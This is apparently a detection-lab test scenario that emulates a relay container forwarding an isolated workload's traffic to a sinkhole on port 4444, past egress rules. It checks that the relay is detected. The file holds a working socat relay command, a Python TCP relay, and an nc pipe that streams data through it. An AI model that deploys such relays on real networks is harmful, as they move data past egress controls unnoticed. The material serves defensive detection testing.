"""A relay container forwards another container's traffic to an outside endpoint."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

PAYLOAD_BYTES = 400_000


# A relay in the standard library: accept, dial upstream, copy both ways until either side closes.
PY_RELAY = """
import socket, sys, threading
listen, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
def pipe(a, b):
    while data := a.recv(65536):
        b.sendall(data)
    b.shutdown(socket.SHUT_WR)
server = socket.create_server(("0.0.0.0", listen), reuse_port=True)
while True:
    client, _ = server.accept()
    upstream = socket.create_connection((host, port))
    threading.Thread(target=pipe, args=(client, upstream), daemon=True).start()
    threading.Thread(target=pipe, args=(upstream, client), daemon=True).start()
"""


class Relay(Scenario):
    id = "docker.network.relay"
    title = "Relay container forwards an internal workload's traffic to an outside endpoint"
    kind = Kind.ADVERSARY
    techniques = ("T1090", "T1090.001")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.analytic.net-relay",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its relay's socat really connects to the sinkhole's port 4444 on the lab internet, outside the "
            "egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "Its relay really forwards the application's bytes to the sinkhole on the lab internet, not "
            "through a sanctioned proxy.",
    })
    twin = "docker.network.sanctioned-proxy"
    tags = ("network", "redirection", "proxy")
    dimensions = (
        Dimension("tool", ("socat", "python"), doc="what relays: socat, or a few lines of Python (a thread per "
                  "connection copying bytes both ways)"),
        Dimension("listen", (8443, 3128), doc="the port the relay listens on for the internal workload"),
        Dimension("upstream", (4444, 443), doc="the outside endpoint's port it forwards to"),
    )
    description = (
        "Deploys a relay container on the LAN and the lab internet running socat, listening on 8443 and "
        "forwarding every connection to the sinkhole's port 4444, and an application container on the LAN "
        "only (it has no way out by itself). The application streams 400 kB of data to the relay, which "
        "passes it on. Variants relay with Python instead of socat, listen on 3128, or forward to port "
        "443. The scenario checks the sinkhole received the bytes from the relay's address."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        listen, upstream = int(self.variant["listen"]), int(self.variant["upstream"])
        command = ("socat", f"TCP-LISTEN:{listen},fork,reuseaddr", f"TCP:{sink}:{upstream}") \
            if self.variant["tool"] == "socat" else ("python3", "-c", PY_RELAY, str(listen), sink, str(upstream))
        relay = lab.deploy(WorkloadSpec(role="edge", networks=("lan", "inet"), labels={"app": "edge-cache"},
                                        command=command))
        app = lab.deploy(WorkloadSpec(role="app", networks=("lan",), labels={"app": "billing"}))
        relay_ip = relay.addresses["lan"]
        lab.action("the application sends its data through the relay")
        lab.exec(app, "sh", "-c", f"for i in 1 2 3 4 5 6 7 8 9 10; do head -c {PAYLOAD_BYTES} /dev/urandom | "
                                  f"nc -w 5 -q 2 {relay_ip} {listen} && exit 0; sleep 0.5; done; exit 1")
        source = relay.addresses["inet"]
        lab.wait_for(lambda: any(r.get("bytes", 0) >= PAYLOAD_BYTES for r in lab.sinkhole_records(peer=source)),
                     timeout=15, what="the relayed bytes to reach the sinkhole")
